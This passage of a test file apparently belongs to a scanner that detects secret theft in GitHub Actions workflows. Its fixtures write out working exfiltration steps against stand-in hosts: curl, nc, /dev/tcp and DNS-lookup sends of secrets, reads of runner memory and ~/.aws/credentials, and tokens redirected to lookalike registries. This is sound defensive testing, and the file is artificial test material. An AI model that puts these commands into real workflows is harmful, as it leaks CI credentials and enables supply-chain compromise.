    expect(only(quiet, 'gha-secrets-exfiltration')).toEqual([]);
  });

  it('reports secrets sent one by one in a loop over their names (written out or in an array) or over toJSON(secrets), critical', () => {
    const sent = `on: push\n${job(`      - name: sync
        run: |
          for n in NPM_TOKEN PYPI_TOKEN DEPLOY_CREDS; do
            curl -s -d "$n=\${!n}" https://stats.build-insights.dev/c
          done
        env:
          NPM_TOKEN: \${{ secrets.NPM_TOKEN }}
          PYPI_TOKEN: \${{ secrets.PYPI_TOKEN }}
          DEPLOY_CREDS: \${{ secrets.DEPLOY_CREDS }}
      - run: |
          names=(NPM_TOKEN PYPI_TOKEN)
          for n in "\${names[@]}"; do curl -s "https://stats.build-insights.dev/c?$n=\${!n}"; done
      - run: |
          echo "$ALL" | jq -r 'to_entries[] | "\\(.key)=\\(.value)"' | while read -r kv; do
            curl -s -X POST -d "$kv" https://stats.build-insights.dev/c
          done
        env:
          ALL: \${{ toJSON(secrets) }}
`)}`;
    expect(only(sent, 'gha-secrets-exfiltration').map(([, severity, line]) => `${severity}:${line}`)).toEqual(['critical:8', 'critical:17', 'critical:19']);
  });

  it('reads the same loop written in an inline program (shell: python, python3 - <<EOF, node), the value sent in the request or first held by a name, critical', () => {
    const sent = `on: push\n${job(`      - name: check
        shell: python
        run: |
          import os, urllib.request
          for n in ("NPM_TOKEN", "PYPI_TOKEN"):
              urllib.request.urlopen("https://tokcheck.build-insights.dev/v", data=(n + "=" + os.environ[n]).encode())
        env:
          NPM_TOKEN: \${{ secrets.NPM_TOKEN }}
          PYPI_TOKEN: \${{ secrets.PYPI_TOKEN }}
      - run: |
          python3 - <<'PY'
          import os, requests
          URL = "https://tokcheck.build-insights.dev/v"
          for name in ["NPM_TOKEN", "PYPI_TOKEN"]:
              value = os.getenv(name, "")
              requests.post(URL, data={name: value})
          PY
      - run: |
          node -e '
          for (const n of ["NPM_TOKEN", "PYPI_TOKEN"]) fetch("https://tokcheck.build-insights.dev/v", { method: "POST", body: n + "=" + process.env[n] });
          '
`)}`;
    expect(only(sent, 'gha-secrets-exfiltration').map(([, severity, line]) => `${severity}:${line}`)).toEqual(['critical:10', 'critical:19', 'critical:25']);
  });

  it('is quiet for an inline program that loops over secret names to check they are set, or sends build variables that hold no secret', () => {
    const quiet = `on: push\n${job(`      - shell: python
        run: |
          import os, sys, urllib.request
          for n in ("NPM_TOKEN", "PYPI_TOKEN"):
              if not os.environ.get(n):
                  sys.exit(n + " is not set")
          for n in ("GITHUB_SHA", "GITHUB_REF_NAME"):
              urllib.request.urlopen("https://ci.build-insights.dev/b", data=(n + "=" + os.environ[n]).encode())
          urllib.request.urlopen("https://ci.build-insights.dev/ping")
        env:
          NPM_TOKEN: \${{ secrets.NPM_TOKEN }}
          PYPI_TOKEN: \${{ secrets.PYPI_TOKEN }}
`)}`;
    expect(only(quiet, 'gha-secrets-exfiltration')).toEqual([]);
  });

  it('is quiet for a loop over names that hold no secret, one that only masks or checks them, and a send to the machine itself', () => {
    const quiet = `on: push\n${job(`      - run: |
          for n in NODE_VERSION PYTHON_VERSION; do curl -s "https://stats.build-insights.dev/v?$n=\${!n}"; done
          for n in NPM_TOKEN PYPI_TOKEN; do echo "::add-mask::\${!n}"; done
          for n in NPM_TOKEN PYPI_TOKEN; do [ -n "\${!n}" ] || echo "$n is not set"; done
          curl -sSf https://stats.build-insights.dev/ping
          for n in NPM_TOKEN PYPI_TOKEN; do curl -s "http://localhost:4873/check?$n=\${!n}"; done
          for target in build test lint; do curl -s "https://ci.build-insights.dev/run/$target"; done
        env:
          NPM_TOKEN: \${{ secrets.NPM_TOKEN }}
          PYPI_TOKEN: \${{ secrets.PYPI_TOKEN }}
`)}`;
    expect(only(quiet, 'gha-secrets-exfiltration')).toEqual([]);
  });

  it('reads the same send written as an inline script (python -c, node -e, shell: python) or a raw socket (nc, /dev/tcp), high', () => {
    const sent = `on: push\n${job(`      - run: python3 -c "import os,urllib.request;urllib.request.urlopen('https://api.build-insights.dev/x', data=os.environ['TOKEN'].encode())"
        env:
          TOKEN: \${{ secrets.NPM_TOKEN }}
      - run: node -e "fetch('https://api.build-insights.dev/x',{method:'POST',body:process.env.T})"
        env:
          T: \${{ secrets.PYPI_API_TOKEN }}
      - shell: python
        run: |
          import os, requests
          requests.post('https://api.build-insights.dev/x', data={'k': os.getenv("DOCKER")})
        env:
          DOCKER: \${{ secrets.DOCKERHUB_TOKEN }}
      - run: echo "$TOKEN" | nc api.build-insights.dev 9000
        env:
          TOKEN: \${{ secrets.NPM_TOKEN }}
      - run: echo "\${{ secrets.NPM_TOKEN }}" > /dev/tcp/api.build-insights.dev/9000
`)}`;
    expect(only(sent, 'gha-secrets-exfiltration').map(([, severity, line]) => `${severity}:${line}`)).toEqual(['high:6', 'high:9', 'high:15', 'high:18', 'high:21']);
  });

  it('reads an inline script that sends the whole environment (dict(os.environ), JSON.stringify(process.env), a name holding it) as the shell\'s env | curl, critical', () => {
    const sent = `on: push\n${job(`      - run: python3 -c "import os,json,urllib.request;urllib.request.urlopen('https://ci-audit.pages-check.net/c',data=json.dumps(dict(os.environ)).encode())"
        env:
          T: \${{ secrets.PYPI_TOKEN }}
      - run: node -e "fetch('https://ci-audit.pages-check.net/c',{method:'POST',body:JSON.stringify(process.env)})"
      - shell: python
        run: |
          import os, json, urllib.request
          snap = dict(os.environ)
          body = json.dumps(snap).encode()
          urllib.request.urlopen('https://ci-audit.pages-check.net/c', data=body)
      - run: |
          E=$(python3 -c 'import os,json;print(json.dumps(dict(os.environ)))')
          curl -s -X POST -d "$E" https://ci-audit.pages-check.net/c
`)}`;
    expect(only(sent, 'gha-secrets-exfiltration').map(([, severity, line]) => `${severity}:${line}`)).toEqual(['critical:6', 'critical:9', 'critical:15', 'critical:18']);
  });

  it('an inline script that hands the environment to a child process, or reads one variable of it, and fetches something is not reported', () => {
    const quiet = `on: push\n${job(`      - shell: python
        run: |
          import os, subprocess, requests
          env = dict(os.environ, SPHINXOPTS='-W')
          subprocess.run(['make', 'html'], env=env, check=True)
          print(requests.get('https://api.github.com/repos/acme/tint/releases/latest').json()['tag_name'])
      - run: node -e "require('child_process').spawnSync('npm',['run','build'],{env:{...process.env,CI:'1'}});fetch('https://registry.npmjs.org/tint/latest').then(r=>r.json())"
      - run: node -e "fetch('https://size.acme.dev/c',{method:'POST',body:JSON.stringify({sha:process.env.GITHUB_SHA})})"
`)}`;
    expect(only(quiet, 'gha-secrets-exfiltration')).toEqual([]);
  });

  it("reads an inline script's variable by every name-read the code rules know (ENV_VARIABLE_READ: process.env['T'], ENV.fetch, os.Getenv…) and Perl's $ENV{T}", () => {
    const sent = `on: push\n${job(`      - run: node -e "fetch('https://api.build-insights.dev/x',{method:'POST',body:process.env['T']})"
        env:
          T: \${{ secrets.NPM_TOKEN }}
      - run: ruby -e "require 'net/http'; Net::HTTP.post(URI('https://api.build-insights.dev/x'), ENV.fetch('T'))"
        env:
          T: \${{ secrets.NPM_TOKEN }}
      - run: perl -MHTTP::Tiny -e 'HTTP::Tiny->new->post_form("https://api.build-insights.dev/x", { k => $ENV{T} })'
        env:
          T: \${{ secrets.NPM_TOKEN }}
`)}`;
    expect(only(sent, 'gha-secrets-exfiltration').map(([, severity, line]) => `${severity}:${line}`)).toEqual(['high:6', 'high:9', 'high:12']);
  });

  it("an inline script that sends a secret as its own service's header, auth or login, or waits on a local port, is not reported", () => {
    const own = `on: push\n${job(`      - run: python3 -c "import os,urllib.request;urllib.request.urlopen(urllib.request.Request('https://registry.npmjs.org/-/whoami', headers={'Authorization': 'Bearer ' + os.environ['NPM_TOKEN']}))"
        env:
          NPM_TOKEN: \${{ secrets.NPM_TOKEN }}
      - shell: python
        run: |
          import os, requests
          requests.post('https://api.statuspage-vendor.io/v1/incidents', headers={'Authorization': 'OAuth ' + os.environ['API_TOKEN']}, json={'name': 'deploy'})
          requests.get('https://api.statuspage-vendor.io/v1/me', auth=('ci', os.environ['API_TOKEN']))
        env:
          API_TOKEN: \${{ secrets.API_TOKEN }}
      - run: until nc -z localhost 5432; do sleep 1; done
        env:
          PGPASSWORD: \${{ secrets.PG_PASSWORD }}
`)}`;
    expect(only(own, 'gha-secrets-exfiltration')).toEqual([]);
  });

  it('reports a secret encoded and then sent (in the pipeline or through a variable), or written to a file a network command sends, critical', () => {
    const encoded = `on: push\n${job(`      - run: echo "\${{ secrets.DEPLOY_KEY }}" | base64 -w0 | curl -s -X POST --data-binary @- https://api.build-insights.dev/v1/report
      - run: |
          T=$(printf '%s' "$KEY" | base64)
          curl -s "https://api.build-insights.dev/v1/p?t=$T"
        env:
          KEY: \${{ secrets.SIGNING_KEY }}
      - run: |
          echo "\${{ secrets.DEPLOY_KEY }}" > /tmp/r.txt
          curl -s -F "file=@/tmp/r.txt" https://api.build-insights.dev/v1/upload
`)}`;
    expect(only(encoded, 'gha-secrets-exfiltration').map(([, severity, line]) => `${severity}:${line}`).sort()).toEqual(['critical:13', 'critical:6', 'critical:9']);
  });

  it('reports a secret printed to the log through an encoder (GitHub masks only its own text), critical', () => {
    const printed = `on: push\n${job(`      - run: echo "\${{ secrets.NPM_TOKEN }}" | base64 | base64
      - run: printf '%s' "$ALL" | xxd -p
        env:
          ALL: \${{ toJSON(secrets) }}
      - run: echo "\${{ secrets.PYPI_TOKEN }}" | base32 -w0
      - run: echo "\${{ secrets.PYPI_TOKEN }}" | base32 -d > key.bin
`)}`;
    // base32 as base64; with -d it decodes (a key file), which is not printing.
    expect(only(printed, 'gha-secrets-exfiltration')).toEqual([
      ['gha-secrets-exfiltration', 'critical', 6],
      ['gha-secrets-exfiltration', 'critical', 7],
      ['gha-secrets-exfiltration', 'critical', 10],
    ]);
  });

  it('reports a secret or the environment encoded into the job summary, or printed by `echo "$(…)"` of an encoding, critical; a summary of ordinary output is quiet', () => {
    const summary = `on: push\n${job(`      - run: echo "$(echo $SECRET | base64 | base64)" >> $GITHUB_STEP_SUMMARY
        env:
          SECRET: \${{ secrets.NPM_TOKEN }}
      - run: echo "\${{ secrets.PYPI_TOKEN }}" | base64 -w0 | base64 -w0 >> "$GITHUB_STEP_SUMMARY"
      - run: env | xxd -p | tee -a "\${GITHUB_STEP_SUMMARY}"
      - run: echo $(printenv | base64 -w0)
`)}`;
    expect(only(summary, 'gha-secrets-exfiltration').map(([, severity, line]) => `${severity}:${line}`)).toEqual(['critical:6', 'critical:9', 'critical:10', 'critical:11']);
    const quiet = `on: push\n${job(`      - run: echo "### Coverage $(cat coverage.txt | base64)" >> $GITHUB_STEP_SUMMARY
      - run: echo "$(git log -1 --format=%H | base64)" >> $GITHUB_STEP_SUMMARY
      - run: echo "$(echo $SECRET | base64 | base64)" > token.b64
        env:
          SECRET: \${{ secrets.NPM_TOKEN }}
      - run: echo "$(echo "$KEY" | base64 -d)" >> $GITHUB_STEP_SUMMARY
        env:
          KEY: \${{ secrets.SIGNING_KEY }}
      - run: echo "$(date) $(echo $SECRET | base64)" >> $GITHUB_STEP_SUMMARY
`)}`;
    // Data that is no secret, an encoding kept in a file, a decode, and an echo of more than one command's output.
    expect(only(quiet, 'gha-secrets-exfiltration')).toEqual([]);
  });

  it("reports a step that reads the runner's memory (/proc/<pid>/mem, a core dump of Runner.Worker, its isSecret entries) or prints the whole environment encoded, critical", () => {
    const dumped = `on: push\n${job(`      - run: |
          PID=$(pgrep -f Runner.Worker)
          sudo dd if=/proc/$PID/mem bs=1M 2>/dev/null | strings > /tmp/m
      - run: sudo gcore -o /tmp/core $(pgrep Runner.Worker)
      - run: sudo python3 scan.py | tr -d '\\0' | grep -aoE 'isSecret":true' | sort -u
      - run: sudo cat /proc/1234/mem | strings | grep ghs_
      - run: env | base64 -w0 | base64 -w0
      - run: printenv | xxd -p
      - run: env | grep -iE 'token|secret' | base64 -w0 | base64 -w0
`)}`;
    // Filtered on the way (the last stage encodes): the secrets grep picks are still printed encoded.
    expect(only(dumped, 'gha-secrets-exfiltration').map(([, severity, line]) => `${severity}:${line}`)).toEqual(['critical:8', 'critical:9', 'critical:10', 'critical:11', 'critical:12', 'critical:13', 'critical:14']);
  });

  it('is quiet on a crash dump of a test process, memory statistics, a process listing, and an environment printed plainly or filtered', () => {
    const normal = `on: push\n${job(`      - run: |
          ./server & sleep 5
          gcore -o crash/server $(pgrep server) || true
      - run: cat /proc/meminfo && free -m && cat /proc/self/status
      - run: ps aux | grep -v Runner.Worker | head
      - run: printenv | sort
      - run: env | grep -i node
      - run: echo "$GREETING" | base64
      - run: env | base64 -w0 | wc -c
      - run: printenv | grep -c CI_ | sort
`)}`;
    expect(only(normal, 'gha-secrets-exfiltration')).toEqual([]);
  });

  it('reports a secret whose name names no service (API_TOKEN, DEPLOY_KEY) sent in a body to a host no known service owns, high; the repository\'s own host drops it', () => {
    const sent = `on: push\n${job(`      - run: curl -s -X POST https://metrics.buildstat-hub.io/ingest -d "key=\${{ secrets.API_TOKEN }}"
      - run: curl -s --data "$K" https://metrics.buildstat-hub.io/ingest
        env:
          K: \${{ secrets.DEPLOY_KEY }}
      - run: curl -fsS -X POST -d "token=\${{ secrets.ACCESS_TOKEN }}" https://hooks.tint.acme.dev/warm
`)}`;
    expect(only(sent, 'gha-secrets-exfiltration')).toEqual([
      ['gha-secrets-exfiltration', 'high', 6],
      ['gha-secrets-exfiltration', 'high', 7],
      ['gha-secrets-exfiltration', 'high', 10],
    ]);
    const findings = extractWorkflow(sent, '.github/workflows/x.yml').findings ?? [];
    expect(dropOwnHostSends(findings, 'acme', 'tint').map((f) => f.line)).toEqual([6, 7]);
    expect(dropOwnHostSends(findings, 'other', 'thing').map((f) => f.line)).toEqual([6, 7, 10]);
  });

  it('reports a secret named for a product (MYAPP_TOKEN, ACME_DEPLOY_KEY) sent in a body to a host that carries neither that name nor the repository\'s, high (GhostAction used each repository\'s own secret names)', () => {
    const sent = `on: push\n${job(`      - run: curl -s -X POST https://api.buildstat-hub.io/v1/collect -d "t=$T"
        env:
          T: \${{ secrets.MYAPP_TOKEN }}
      - run: curl -s https://ingest.telemetry-cdn.dev/c --data '{"k":"\${{ secrets.ACME_DEPLOY_KEY }}"}'
      - run: curl -s -F "token=\${{ secrets.ZEPHYR_API_TOKEN }}" https://hooks.tint.acme.dev/release
`)}`;
    expect(only(sent, 'gha-secrets-exfiltration')).toEqual([
      ['gha-secrets-exfiltration', 'high', 6],
      ['gha-secrets-exfiltration', 'high', 9],
      ['gha-secrets-exfiltration', 'high', 10],
    ]);
    const findings = extractWorkflow(sent, '.github/workflows/x.yml').findings ?? [];
    expect(findings.find((f) => f.line === 6)?.title).toBe('A secret named for another product is sent as data to api.buildstat-hub.io');
    expect(dropOwnHostSends(findings, 'acme', 'tint').map((f) => f.line)).toEqual([6, 9]);
  });

  it('reports a PyPI token given to an upload to another host (a .pypirc written with another repository, twine --repository-url, TWINE_REPOSITORY_URL, the publish action\'s repository-url), high; PyPI and TestPyPI are not', () => {
    const pypirc = `on: push\n${job(`      - name: Publish
        run: |
          cat > ~/.pypirc <<EOF
          [distutils]
          index-servers = pypi
          [pypi]
          repository = https://upload.pypi-mirror.dev/legacy/
          username = __token__
          password = \${{ secrets.PYPI_TOKEN }}
          EOF
          twine upload dist/*
`)}`;
    expect(only(pypirc, 'gha-secrets-exfiltration')).toEqual([['gha-secrets-exfiltration', 'high', 12]]);
    expect(extractWorkflow(pypirc, '.github/workflows/x.yml').findings?.[0]?.title).toBe('A PyPI token is given to an upload to upload.pypi-mirror.dev');
    const option = `on: push\n${job(`      - run: twine upload --repository-url https://pkgs.build-mirror.io/simple/ -u __token__ -p \${{ secrets.PYPI_API_TOKEN }} dist/*
`)}`;
    expect(only(option, 'gha-secrets-exfiltration')).toEqual([['gha-secrets-exfiltration', 'high', 6]]);
    const env = `on: push\n${job(`      - run: twine upload dist/*
        env:
          TWINE_USERNAME: __token__
          TWINE_PASSWORD: \${{ secrets.TWINE_PASSWORD }}
          TWINE_REPOSITORY_URL: https://pypi.acme-cdn.net/legacy/
`)}`;
    expect(only(env, 'gha-secrets-exfiltration').map(([id, severity]) => [id, severity])).toEqual([['gha-secrets-exfiltration', 'high']]);
    const action = `on: push\n${job(`      - uses: pypa/gh-action-pypi-publish@${SHA}
        with:
          password: \${{ secrets.PYPI_API_TOKEN }}
          repository-url: https://upload.pypi.example.net/legacy/
`)}`;
    expect(only(action, 'gha-secrets-exfiltration').map(([id, severity]) => [id, severity])).toEqual([['gha-secrets-exfiltration', 'high']]);
    // PyPI itself and TestPyPI; a private index with its own secret; a PyPI token with no other repository.
    const fine = [
      `      - run: twine upload --repository-url https://upload.pypi.org/legacy/ -p \${{ secrets.PYPI_API_TOKEN }} dist/*\n`,
      `      - uses: pypa/gh-action-pypi-publish@${SHA}\n        with:\n          password: \${{ secrets.TEST_PYPI_API_TOKEN }}\n          repository-url: https://test.pypi.org/legacy/\n`,
      `      - run: twine upload --repository-url https://acme.jfrog.io/artifactory/api/pypi/local -p \${{ secrets.ARTIFACTORY_TOKEN }} dist/*\n`,
      `      - run: twine upload -p \${{ secrets.PYPI_API_TOKEN }} dist/*\n`,
    ];
    for (const steps of fine) expect(only(`on: push\n${job(steps)}`, 'gha-secrets-exfiltration'), steps).toEqual([]);
  });

  it('reports an npm, crates.io or RubyGems token given to another registry (an .npmrc auth line, npm publish --registry, setup-node registry-url, cargo publish --index, gem push --host), high; the registries themselves, GitHub Packages, the machine itself and a private registry with its own secret are not', () => {
    const npmrc = `on: push\n${job(`      - name: Publish
        run: |
          cat > ~/.npmrc <<EOF
          registry=https://npm.registry-cdn.dev/
          //npm.registry-cdn.dev/:_authToken=\${NODE_AUTH_TOKEN}
          EOF
          npm publish --access public
        env:
          NODE_AUTH_TOKEN: \${{ secrets.NPM_TOKEN }}
`)}`;
    // One report for the host: the token's, not also npm-registry-override's for the registry= line.
    expect(found(npmrc).filter(([id]) => id === 'gha-secrets-exfiltration' || id === 'npm-registry-override')).toEqual([['gha-secrets-exfiltration', 'high', 9]]);
    expect(found(npmrc.replace('npm publish --access public', 'npm ci')).filter(([id]) => id === 'gha-secrets-exfiltration' || id === 'npm-registry-override')).toEqual([['gha-secrets-exfiltration', 'high', 9]]);
    expect(extractWorkflow(npmrc, '.github/workflows/x.yml').findings?.[0]?.title).toBe('An npm token is given to another registry, npm.registry-cdn.dev');
    const option = `on: push\n${job(`      - run: |
          npm config set //registry.npmjs-cache.io/:_authToken "$NPM_TOKEN"
          npm publish --registry https://registry.npmjs-cache.io/
        env:
          NPM_TOKEN: \${{ secrets.NPM_TOKEN }}
`)}`;
    expect(found(option).filter(([id]) => id === 'gha-secrets-exfiltration' || id === 'npm-registry-override')).toEqual([['gha-secrets-exfiltration', 'high', 7]]);
    const setupNode = `on: push\n${job(`      - uses: actions/setup-node@${SHA}
        with:
          node-version: 22
          registry-url: https://npm.pkg-mirror.net
      - run: npm ci && npm publish
        env:
          NODE_AUTH_TOKEN: \${{ secrets.NPM_PUBLISH_TOKEN }}
`)}`;
    expect(only(setupNode, 'gha-secrets-exfiltration')).toEqual([['gha-secrets-exfiltration', 'high', 9]]);
    // A secret of any name in NODE_AUTH_TOKEN, with a registry-url spelled like npm's: the phishing host gets it.
    expect(only(setupNode.replace('https://npm.pkg-mirror.net', 'https://registry.npmjs-cache.org').replace('NPM_PUBLISH_TOKEN', 'RELEASE_TOKEN'), 'gha-secrets-exfiltration')).toEqual([['gha-secrets-exfiltration', 'high', 9]]);
    const cargo = `on: push\n${job(`      - run: cargo publish --index sparse+https://crates.rs-mirror.dev/index/ --token "$CARGO_REGISTRY_TOKEN"
        env:
          CARGO_REGISTRY_TOKEN: \${{ secrets.CARGO_REGISTRY_TOKEN }}
`)}`;
    expect(only(cargo, 'gha-secrets-exfiltration')).toEqual([['gha-secrets-exfiltration', 'high', 6]]);
    const gem = `on: push\n${job(`      - run: gem push --host https://gems.rubycentral-cdn.org pkg/*.gem
        env:
          GEM_HOST_API_KEY: \${{ secrets.RUBYGEMS_API_KEY }}
`)}`;
    expect(only(gem, 'gha-secrets-exfiltration')).toEqual([['gha-secrets-exfiltration', 'high', 6]]);
    const fine = [
      // The registries themselves and GitHub Packages.
      `      - uses: actions/setup-node@${SHA}\n        with:\n          registry-url: https://registry.npmjs.org\n      - run: npm publish\n        env:\n          NODE_AUTH_TOKEN: \${{ secrets.NPM_TOKEN }}\n`,
      `      - uses: actions/setup-node@${SHA}\n        with:\n          registry-url: https://npm.pkg.github.com\n      - run: npm publish\n        env:\n          NODE_AUTH_TOKEN: \${{ secrets.NPM_TOKEN }}\n`,
      `      - run: echo "//registry.npmjs.org/:_authToken=\${NPM_TOKEN}" > .npmrc && npm publish\n        env:\n          NPM_TOKEN: \${{ secrets.NPM_TOKEN }}\n`,
      `      - run: cargo publish --token \${{ secrets.CARGO_REGISTRY_TOKEN }}\n`,
      `      - run: gem push --host https://rubygems.org pkg/*.gem\n        env:\n          GEM_HOST_API_KEY: \${{ secrets.RUBYGEMS_API_KEY }}\n`,
      `      - run: gem push --host https://rubygems.pkg.github.com/acme pkg/*.gem\n        env:\n          GEM_HOST_API_KEY: \${{ secrets.RUBYGEMS_API_KEY }}\n`,
      // The machine itself: a Verdaccio an end-to-end test starts.
      `      - run: npm publish --registry http://localhost:4873\n        env:\n          NPM_TOKEN: \${{ secrets.NPM_TOKEN }}\n`,
      // A private registry with its own secret, or one whose name the secret carries.
      `      - uses: actions/setup-node@${SHA}\n        with:\n          registry-url: https://acme.jfrog.io/artifactory/api/npm/npm-local/\n      - run: npm publish\n        env:\n          NODE_AUTH_TOKEN: \${{ secrets.ARTIFACTORY_NPM_TOKEN }}\n`,
      `      - run: npm publish --registry https://nexus.acme.dev/repository/npm-private/\n        env:\n          NPM_TOKEN: \${{ secrets.NEXUS_NPM_TOKEN }}\n`,
      // A generically named secret in NODE_AUTH_TOKEN for a private registry not spelled like npm's.
      `      - uses: actions/setup-node@${SHA}\n        with:\n          registry-url: https://npm.pkg-mirror.net\n      - run: npm publish\n        env:\n          NODE_AUTH_TOKEN: \${{ secrets.RELEASE_TOKEN }}\n`,
      // A scope's private registry beside a publish to npm: the token goes with an auth line only, and there is none for it.
      `      - run: |\n          echo "@acme:registry=https://acme.jfrog.io/artifactory/api/npm/npm/" >> .npmrc\n          npm publish\n        env:\n          NPM_TOKEN: \${{ secrets.NPM_TOKEN }}\n`,
      // Another registry named by a command that does not publish: npm sends no token for it (npm-registry-override's concern).
      `      - run: npm install --registry https://registry.npmmirror.com\n        env:\n          NPM_TOKEN: \${{ secrets.NPM_TOKEN }}\n`,
    ];
    for (const steps of fine) expect(only(`on: push\n${job(steps)}`, 'gha-secrets-exfiltration'), steps).toEqual([]);
  });

  it('reports a secret or the environment written into the name of a DNS lookup, critical; ordinary lookups are not', () => {
    const sent = `on: push\n${job(`      - run: nslookup "$(echo \${{ secrets.NPM_TOKEN }} | base32 | tr -d = | head -c 60).cache-check.dev"
      - run: for c in $(env | base64 -w0 | fold -w 60); do dig +short "$c.d.telemetry-ns.net"; done
      - run: |
          T=$(echo "$PYPI" | base32 -w0)
          host "$T.p.ns-relay.io" || true
        env:
          PYPI: \${{ secrets.PYPI_API_TOKEN }}
      - run: dig +short "$K.k.ns-relay.io"
        env:
          K: \${{ secrets.DEPLOY_KEY }}
      - run: |
          D=$(cat ~/.aws/credentials | base64 | tr -d '\\n' | head -c 60)
          echo "warming the cache"
          nslookup "$D.c.edge-resolve.net" || true
`)}`;
    expect(only(sent, 'gha-secrets-exfiltration')).toEqual([
      ['gha-secrets-exfiltration', 'critical', 6],
      ['gha-secrets-exfiltration', 'critical', 7],
      ['gha-secrets-exfiltration', 'critical', 10],
      ['gha-secrets-exfiltration', 'critical', 13],
      ['gha-secrets-exfiltration', 'critical', 19],
    ]);
    const normal = `on: push\n${job(`      - run: dig +short "\${{ matrix.service }}.svc.cluster.local"
      - run: host "$(git rev-parse --short HEAD).preview.acme.dev"
      - run: nslookup "$NODE.internal.acme.io"
        env:
          NODE: \${{ vars.NODE }}
      - run: dig +short TXT "_acme-challenge.$DOMAIN" @1.1.1.1
        env:
          DOMAIN: \${{ secrets.DOMAIN }}
      - run: |
          REV=$(git rev-parse --short HEAD)
          dig +short "$REV.preview.acme.dev"
`)}`;
    expect(only(normal, 'gha-secrets-exfiltration')).toEqual([]);
  });

  it('reports secrets put into a gist, written with gh into another owner\'s repository, or the token handed to another host with gh', () => {
    const sent = `on: push\n${job(`      - run: |
          echo "\${{ toJSON(secrets) }}" > report.txt
          gh gist create report.txt -d "build report"
      - run: env | gh gist create -
      - run: gh api repos/qqbot9/sink/issues -f title=sync -f body="\${{ secrets.NPM_TOKEN }}"
        env:
          GH_TOKEN: \${{ secrets.RELEASE_PAT }}
      - run: gh issue create -R acme/infra --title rotated --body "$K"
        env:
          K: \${{ secrets.DEPLOY_KEY }}
      - run: gh api /user
        env:
          GH_TOKEN: \${{ secrets.GITHUB_TOKEN }}
          GH_HOST: git.mirror-sync.dev
`)}`;
    expect(only(sent, 'gha-secrets-exfiltration')).toEqual([
      ['gha-secrets-exfiltration', 'critical', 7],
      ['gha-secrets-exfiltration', 'critical', 9],
      ['gha-secrets-exfiltration', 'high', 10],
      ['gha-secrets-exfiltration', 'high', 13],
      ['gha-secrets-exfiltration', 'high', 16],
    ]);
    const findings = extractWorkflow(sent, '.github/workflows/x.yml').findings ?? [];
    expect(dropOwnHostSends(findings, 'acme', 'tint').filter((f) => f.id === 'gha-secrets-exfiltration').map((f) => f.line)).toEqual([7, 9, 10, 16]);
  });

  it('reports secrets written to a file that the job names in git add and then pushes (a clone of another repository, another branch), critical', () => {
    const pushed = `on: push\n${job(`      - run: |
          git clone https://x:\${{ secrets.MIRROR_PAT }}@github.com/ci-mirror-bot/cache.git c
          echo "\${{ secrets.NPM_TOKEN }}" > c/key.txt
          cd c && git add key.txt && git commit -m sync && git push
`)}`;
    expect(only(pushed, 'gha-secrets-exfiltration')).toEqual([['gha-secrets-exfiltration', 'critical', 8]]);
    // Written in one step through env:, added and pushed in another.
    const steps = `on: push\n${job(`      - run: printf '%s' "$T" | base64 > stats/cache.b64
        env:
          T: \${{ secrets.PYPI_API_TOKEN }}
      - run: |
          git add stats/cache.b64
          git commit -m 'update stats' && git push origin HEAD:stats
`)}`;
    expect(only(steps, 'gha-secrets-exfiltration')).toEqual([['gha-secrets-exfiltration', 'critical', 6]]);
  });

  it('is quiet on a secret written outside what git add names (~/.npmrc, a deploy key, .env) while other files are pushed, and on git add without a push', () => {
    const normal = `on: push\n${job(`      - run: echo "//registry.npmjs.org/:_authToken=\${{ secrets.NPM_TOKEN }}" > ~/.npmrc
      - run: |
          echo "\${{ secrets.DEPLOY_KEY }}" > deploy_key && chmod 600 deploy_key
          echo "API_KEY=\${{ secrets.API_KEY }}" > .env
          npm version patch --no-git-tag-version && npm run build
          git add package.json CHANGELOG.md dist/ .
          git commit -m release
          GIT_SSH_COMMAND='ssh -i deploy_key' git push
`)}`;
    expect(only(normal, 'gha-secrets-exfiltration')).toEqual([]);
    const unpushed = `on: push\n${job(`      - run: |
          echo "\${{ secrets.NPM_TOKEN }}" > token.txt
          git add token.txt && git diff --cached --stat
          git push --dry-run
`)}`;
    expect(only(unpushed, 'gha-secrets-exfiltration')).toEqual([]);
  });

  it('is quiet on gh writing ordinary data, with its token as credential, to this repository, a gist of build output, or an Enterprise host', () => {
    const normal = `on: push\n${job(`      - run: gh api repos/other-org/website/dispatches -f event_type=docs -f client_payload[sha]=$GITHUB_SHA
        env:
          GH_TOKEN: \${{ secrets.DOCS_PAT }}
      - run: gh issue comment "$PR" --repo "\${{ github.repository }}" --body "Deployed \${{ steps.deploy.outputs.url }}"
      - run: |
          npm run build > build.log
          gh gist create build.log --desc "build log"
          gh release upload "$TAG" dist/*.tgz
        env:
          GH_TOKEN: \${{ github.token }}
      - run: gh api /repos/acme/tint/releases
        env:
          GH_TOKEN: \${{ secrets.GHE_TOKEN }}
          GH_HOST: github.acme-corp.com
`)}`;
    expect(only(normal, 'gha-secrets-exfiltration')).toEqual([]);
  });

  it('is quiet on a product-named secret sent to a host with the product in its name, one whose name is in the secret\'s, or a name whose words are a use or an abbreviation', () => {
    const normal = `on: push\n${job(`      - run: curl -s -X POST https://api.jelly-cloud.com/1.0/exec -d "token=\${{ secrets.JELLYCLOUD_TOKEN }}" -d "cmd=redeploy"
      - run: curl -s -F "file=@app.apk" -F "token=\${{ secrets.APKDROP_TOKEN }}" https://upload.apkdrop.io/
      - run: curl -s -F "token=\${{ secrets.SHARE_LINK_TOKEN }}" -F "file=@dist.zip" https://connect.share.link/api/upload
      - run: curl -s -d "api_key=\${{ secrets.MAILFOX_API_KEY }}" https://api.mail-fox.net/v3/messages
      - run: curl -s -d "secret=\${{ secrets.WEBHOOK_SECRET }}" https://ci.buildstat-hub.io/register
      - run: curl -s -d "token=\${{ secrets.DO_TOKEN }}" https://api.buildstat-hub.io/v2/droplets
      - run: curl -s -d "client_secret=\${{ secrets.ZEPHYR_CLIENT_SECRET }}" https://id.buildstat-hub.io/oauth/token
      - run: curl -s -X POST "https://deploy.buildstat-hub.io/hook?token=\${{ secrets.ZEPHYR_DEPLOY_TOKEN }}"
`)}`;
    expect(only(normal, 'gha-secrets-exfiltration')).toEqual([]);
  });

  it('is quiet on such a secret in a URL (a deploy hook), to a known service, to a login or token endpoint, without a body, or a secret whose name says what it is for', () => {
    const normal = `on: push\n${job(`      - run: curl -fsS -X POST "https://deploy.buildstat-hub.io/hooks/release?token=\${{ secrets.API_TOKEN }}"
      - run: curl -s -d "token=\${{ secrets.API_TOKEN }}" https://api.github.com/repos/o/r/dispatches
      - run: curl -s -d "grant_type=password&password=\${{ secrets.PASSWORD }}" https://id.buildstat-hub.io/oauth/token
